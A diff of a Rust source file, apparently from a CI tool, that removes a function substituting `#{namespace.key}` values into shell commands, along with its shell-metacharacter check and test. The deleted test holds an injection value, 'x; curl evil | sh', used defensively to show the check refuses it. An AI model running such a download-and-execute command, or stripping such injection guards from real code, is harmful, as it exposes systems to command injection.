@@ -60,42 +60,6 @@ pub fn resolve(value: &str, lookup: impl Fn(&str, &str) -> Option<String>) -> Re
     Ok(out)
 }
 
-/// Why a reference in a command cannot be replaced.
-#[derive(Clone, Debug, PartialEq, Eq)]
-pub enum CommandProblem {
-    NoValue(Unresolved),
-    /// The value has characters that a shell would take as its own.
-    Unsafe {
-        /// What stands between the braces.
-        text: String,
-    },
-}
-
-/// The references of the form `#{namespace.key}` in a command, as text. What else looks like one is the shell's.
-pub fn command_references(command: &str) -> String {
-    references(command).into_iter().filter(|r| r.parts().is_some()).filter_map(|r| command.get(r.span)).collect()
-}
-
-/// `command` with its references replaced. A value may come from anybody who can push a commit, so one that a shell would read as more
-/// than a word is refused.
-pub fn resolve_command(command: &str, lookup: impl Fn(&str, &str) -> Option<String>) -> Result<String, CommandProblem> {
-    let mut out = String::with_capacity(command.len());
-    let mut done = 0;
-    for reference in references(command) {
-        let Some((namespace, key)) = reference.parts() else { continue };
-        let text = reference.text.to_owned();
-        let Some(value) = lookup(namespace, key) else { return Err(CommandProblem::NoValue(Unresolved { text })) };
-        if !value.chars().all(|c| c.is_alphanumeric() || " _./:@%+=,-".contains(c)) {
-            return Err(CommandProblem::Unsafe { text });
-        }
-        out.push_str(command.get(done..reference.span.start).unwrap_or_default());
-        out.push_str(&value);
-        done = reference.span.end;
-    }
-    out.push_str(command.get(done..).unwrap_or_default());
-    Ok(out)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -118,21 +82,6 @@ mod tests {
     #[test]
     fn a_value_that_looks_like_a_reference_is_not_resolved_again() {
         assert_eq!(resolve("#{Evil.Message}", lookup).as_deref(), Ok("#{Source.CommitId}"));
-    }
-
-    #[test]
-    fn a_command_takes_values_that_a_shell_reads_as_they_are() {
-        let lookup = |namespace: &str, key: &str| match (namespace, key) {
-            ("Src", "Message") => Some("x; curl evil | sh".to_owned()),
-            _ => lookup(namespace, key),
-        };
-        let resolve = |command: &str| resolve_command(command, lookup);
-        assert_eq!(resolve("make V=#{Source.CommitId} #{x}").as_deref(), Ok("make V=8cf40f2 #{x}"));
-        assert_eq!(command_references("#{Source.CommitId} #{x} #{a.b"), "#{Source.CommitId}");
-        let text = "Src.Message".to_owned();
-        assert_eq!(resolve("echo '#{Src.Message}'"), Err(CommandProblem::Unsafe { text }));
-        let text = "Source.Nope".to_owned();
-        assert_eq!(resolve("#{Source.Nope}"), Err(CommandProblem::NoValue(Unresolved { text })));
     }
 
     #[test]
